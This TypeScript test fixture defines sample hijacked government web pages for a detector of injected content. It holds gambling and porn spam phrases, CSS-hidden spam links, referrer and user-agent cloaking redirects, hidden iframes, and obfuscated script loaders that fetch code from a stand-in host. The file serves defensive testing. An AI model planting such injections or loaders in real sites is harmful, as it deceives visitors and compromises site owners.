import { pageOf } from './page-of.ts';
import type { PageAlarmKind } from '../page-alarm.ts';

/** A hijacked page in one guise, and the kinds of alarm it must raise. */
export interface HijackedPage {
  readonly name: string;
  readonly html: string;
  readonly kinds: readonly PageAlarmKind[];
}

const references = (text: string, hexadecimal = false): string =>
  [...text]
    .map((char) => {
      const code = char.codePointAt(0) ?? 0;
      return hexadecimal ? `&#x${code.toString(16)};` : `&#${String(code)};`;
    })
    .join('');
const hexadecimal = (text: string): string =>
  [...text].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

const link = '<a href="http://www.shadowfarm-one.com/">点击这里</a>';
const links = `${link}<a href="http://www.shadowfarm-two.com/x">更多</a>`;

const page = (name: string, html: string, ...kinds: readonly PageAlarmKind[]): HijackedPage => ({ name, html, kinds });

export const hijackedPages: readonly HijackedPage[] = [
  page(
    'brand before the title',
    pageOf({ title: '亚博体育官网入口_春季植树活动公告-临江市人民政府' }),
    'gambling-phrase',
  ),
  page(
    'brand in decimal references',
    pageOf({ title: references('开云体育app下载-登录入口') }),
    'gambling-phrase',
    'title-mismatch',
  ),
  page(
    'brand in hexadecimal references',
    pageOf({ title: references('华体会官方网站', true) }),
    'gambling-phrase',
    'title-mismatch',
  ),
  page(
    'ambiguous brand in references',
    pageOf({ title: references('米兰(中国)平台') }),
    'gambling-phrase',
    'title-mismatch',
  ),
  page('pinyin in brackets', pageOf({ title: '乐鱼(leyu)体育·官方网站-植树活动公告' }), 'pinyin-in-brackets'),
  page('pinyin in full-width brackets', pageOf({ title: '开云（ｋａｉｙｕｎ）中国官方网站' }), 'pinyin-in-brackets'),
  page('unknown name with its pinyin', pageOf({ title: '沃宝(wobao)体育官网-登录' }), 'pinyin-in-brackets'),
  page('country in brackets, then Latin', pageOf({ title: '开云(中国)Kaiyun·官方网站 - 登录入口' }), 'gambling-phrase'),
  page('full-width Latin', pageOf({ title: 'ｂｅｔ３６５手机版_植树活动' }), 'gambling-phrase'),
  page(
    'zero-width characters between',
    pageOf({ title: '亚\u200b博\u200b体\u200b育_植树活动公告' }),
    'gambling-phrase',
  ),
  page('signs between', pageOf({ title: '百·家·乐·平台_植树活动公告' }), 'gambling-phrase'),
  page('Traditional', pageOf({ title: '亞博體育登錄入口_植樹活動' }), 'gambling-phrase'),
  page('same sound', pageOf({ title: '百佳乐在线_新莆京网址' }), 'gambling-phrase', 'title-mismatch'),
  page('lottery game', pageOf({ title: '北京赛车pk10开奖直播' }), 'gambling-phrase', 'title-mismatch'),
  page('keywords', pageOf({ head: '<meta name="keywords" content="老虎机,时时彩,真人娱乐,植树">' }), 'gambling-phrase'),
  page(
    'description',
    pageOf({ head: '<meta name="description" content="必威betway提供体育投注、电子游艺，注册送彩金">' }),
    'gambling-phrase',
  ),
  page(
    'anchor in the navigation',
    pageOf({ nav: '<a href="/">首页</a> <a href="/xw/">澳门新葡京</a> <a href="/zwgk/">政府信息公开</a>' }),
    'gambling-phrase',
  ),
  page(
    'fixture in the navigation',
    pageOf({ nav: '<a href="/">首页</a> <a href="/xw/">波兰VS沙特谁赢</a>' }),
    'gambling-phrase',
  ),
  page(
    'no channel of a public body',
    pageOf({ nav: '<a href="/">首页</a> <a href="/xw/">足球比分直播</a>' }),
    'gambling-phrase',
  ),
  page('cup and betting', pageOf({ nav: '<a href="/">首页</a> <a href="/xw/">世界杯买球平台</a>' }), 'gambling-phrase'),
  page('heading', pageOf({ h1: '时时彩平台注册' }), 'gambling-phrase'),
  page(
    'running text',
    pageOf({ body: '<p>想参与更多活动，请打开星空体育官网登录入口领取礼金，先到先得。</p>' }),
    'gambling-phrase',
  ),
  page('porn in the title', pageOf({ title: '国产精品视频一区二区_植树活动' }), 'porn-phrase'),
  page(
    'porn in a hidden part',
    pageOf({ top: '<div style="display:none"><a href="/x/1.html">成人电影在线</a></div>' }),
    'porn-phrase',
  ),
  page('porn in keywords', pageOf({ head: '<meta name="keywords" content="无码av,三级片,同城约炮">' }), 'porn-phrase'),
  page('picture description', pageOf({ body: '<img src="/a.jpg" alt="凯发k8娱乐">' }), 'gambling-phrase'),
  page(
    'off the screen to the left',
    pageOf({ top: `<div style="position:absolute;left:-9999px;">${links}</div>` }),
    'hidden-link',
  ),
  page(
    'off the screen above',
    pageOf({ top: `<div style="position:fixed; top: -1000px">${links}</div>` }),
    'hidden-link',
  ),
  page('display none', pageOf({ top: `<div style="display:none">${links}</div>` }), 'hidden-link'),
  page(
    'display none in capitals',
    pageOf({ top: `<DIV STYLE="DISPLAY: NONE !important">${links}</DIV>` }),
    'hidden-link',
  ),
  page('visibility hidden', pageOf({ top: `<p style="visibility:hidden">${links}</p>` }), 'hidden-link'),
  page('no letters', pageOf({ body: `<span style="font-size:0px">${links}</span>` }), 'hidden-link'),
  page(
    'a link of its own without size',
    pageOf({ body: '<p>正文<a href="http://x.vip/" style="font-size:0">下载</a></p>' }),
    'hidden-link',
  ),
  page('zero size', pageOf({ body: `<div style="height:0;width:0;overflow:hidden">${links}</div>` }), 'hidden-link'),
  page('one pixel', pageOf({ body: `<div style="overflow:hidden;height:1px">${links}</div>` }), 'hidden-link'),
  page('text indent', pageOf({ body: `<p style="text-indent:-9999px">${links}</p>` }), 'hidden-link'),
  page(
    'colour of the ground',
    pageOf({
      body: `<div style="background:#fff"><a style="color:#ffffff" href="http://www.shadowfarm-one.com">资讯</a></div>`,
    }),
    'hidden-link',
  ),
  page(
    'flat marquee',
    pageOf({ body: `<marquee height="1" width="5" scrollamount="3000">${links}</marquee>` }),
    'hidden-link',
  ),
  page(
    'style sheet in the page',
    pageOf({ head: '<style>.qz{position:absolute;left:-2000px}</style>', body: `<div class="qz">${links}</div>` }),
    'hidden-link',
  ),
  page(
    'hidden by script',
    pageOf({
      body: `<div id="zx9">${links}</div><script>document.getElementById("zx9").style.display="none"</script>`,
    }),
    'hidden-link',
  ),
  page(
    'written hidden part',
    pageOf({
      body: `<script>document.write('<div style="display:none">')</script>${links}<script>document.write('</div>')</script>`,
    }),
    'hidden-link',
  ),
  page(
    'written with its links',
    pageOf({
      body: `<script>document.write('<div style="position:absolute;top:-999px"><a href="http://www.shadowfarm-one.com">好</a></div>');</script>`,
    }),
    'hidden-link',
  ),
  page('after the end', pageOf({ after: links }), 'hidden-link'),
  page('before the beginning', `${links}${pageOf()}`, 'hidden-link'),
  page(
    'in a menu, of the cheap kind',
    pageOf({ body: '<div class="menu" style="display:none"><a href="http://js88.top/">首页</a></div>' }),
    'hidden-link',
  ),
  page(
    'script from a stranger',
    pageOf({ head: '<script src="https://js.shadowfarm-one.com/tj.js"></script>' }),
    'foreign-script',
  ),
  page(
    'script from an address in digits',
    pageOf({ head: '<script src="http://45.77.1.9/a.js"></script>' }),
    'foreign-script',
  ),
  page(
    'script without protocol',
    pageOf({ head: '<script src="//cdn.tongji88.vip/jquery.min.js"></script>' }),
    'foreign-script',
  ),
  page(
    'character codes',
    pageOf({
      head: `<script>eval(String.fromCharCode(${[...'document.write("<script src=http://shadowfarm-one.com/x.js><\\/script>")'].map((char) => String(char.charCodeAt(0))).join(',')}))</script>`,
    }),
    'foreign-script',
  ),
  page(
    'hexadecimal',
    pageOf({
      head: `<script>window["${hexadecimal('document')}"]["${hexadecimal('write')}"]('${hexadecimal('<script src="https://shadowfarm-one.com/tj.js">')}')</script>`,
    }),
    'foreign-script',
  ),
  page(
    'packer',
    pageOf({
      head: `<script>eval(function(p,a,c,k,e,d){return p}('0.1("<2 3=4://5.6/7.8></2>")',9,9,'document|write|script|src|https|shadowfarm|top|x|js'.split('|'),0,{}))</script>`,
    }),
    'foreign-script',
  ),
  page(
    'Base64',
    pageOf({
      head: `<script>document.write(atob("${btoa('<script src="//shadowfarm-one.com/a.js"></script>')}"))</script>`,
    }),
    'foreign-script',
  ),
  page(
    'made script element',
    pageOf({
      head: '<script>(function(){var s=document.createElement("script");s.src="https://shadowfarm-one.com/t.js";document.head.appendChild(s)})()</script>',
    }),
    'foreign-script',
  ),
  page(
    'referrer test',
    pageOf({
      head: '<script>var r=document.referrer;if(/baidu|sogou|so\\.com/.test(r)){window.location.href="https://shadowfarm-one.com/"}</script>',
    }),
    'cloaking-script',
  ),
  page(
    'referrer test, indexOf',
    pageOf({
      head: '<script>if(document.referrer.indexOf("baidu")>0||document.referrer.indexOf("sogou")>0)top.location="http://1.2.3.4/"</script>',
    }),
    'cloaking-script',
  ),
  page(
    'title for people only',
    pageOf({
      title: references('爱游戏体育'),
      head: '<script>if(navigator.userAgent.toLowerCase().indexOf("baidu")==-1){document.title="春季植树活动公告"}</script>',
    }),
    'cloaking-script',
    'gambling-phrase',
  ),
  page(
    'telephones sent elsewhere',
    pageOf({
      head: '<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.replace("https://shadowfarm-one.com/m")}</script>',
    }),
    'cloaking-script',
  ),
  page(
    'refresh',
    pageOf({ head: '<meta http-equiv="refresh" content="3;url=https://shadowfarm-one.com/">' }),
    'meta-refresh',
  ),
  page(
    'refresh in capitals',
    pageOf({ head: "<META HTTP-EQUIV='Refresh' CONTENT='0; URL=//a8.vip/go'>" }),
    'meta-refresh',
  ),
  page(
    'frame without size',
    pageOf({ body: '<iframe src="http://shadowfarm-one.com/" width="0" height="0"></iframe>' }),
    'foreign-iframe',
  ),
  page(
    'frame over the page',
    pageOf({
      body: '<iframe src="https://shadowfarm-one.com/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999"></iframe>',
    }),
    'foreign-iframe',
  ),
  page(
    'hidden frame',
    pageOf({ body: '<iframe style="display:none" src="https://shadowfarm-one.com/"></iframe>' }),
    'foreign-iframe',
  ),
  page(
    'footer swapped',
    pageOf({ footer: '主办单位：临江市人民政府办公室　版权所有：开云体育有限公司' }),
    'brand-swap',
  ),
  page(
    'holder swapped for a house of play',
    pageOf({ footer: '<p>版权所有 &copy; 鑫盛娱乐有限公司</p>' }),
    'brand-swap',
  ),
  page('holder swapped for a bare name', pageOf({ footer: 'Copyright © 2023 必威 All Rights Reserved' }), 'brand-swap'),
  page(
    'hidden table',
    pageOf({ body: `<table style="display:none"><tr><td>${links}</td></tr></table>` }),
    'hidden-link',
  ),
  page('off the screen in em', pageOf({ body: `<div style="text-indent:-999em">${links}</div>` }), 'hidden-link'),
  page('no opacity', pageOf({ body: `<div style="opacity:0">${links}</div>` }), 'hidden-link'),
  page('official site of a country', pageOf({ title: '易游·体育(中国)官方网站-植树活动' }), 'gambling-phrase'),
  page('name and code', pageOf({ title: '永利3044官网入口' }), 'gambling-phrase', 'title-mismatch'),
  page('site name swapped', pageOf({ title: '春季植树活动公告-亚博体育' }), 'brand-swap', 'gambling-phrase'),
  page('company at the end of the title', pageOf({ title: '春季植树活动公告-东盛商贸有限公司' }), 'brand-swap'),
  page(
    'logo swapped',
    pageOf({ top: '<div class="logo"><img src="/logo.png" alt="九游会娱乐"></div>' }),
    'brand-swap',
    'gambling-phrase',
  ),
];
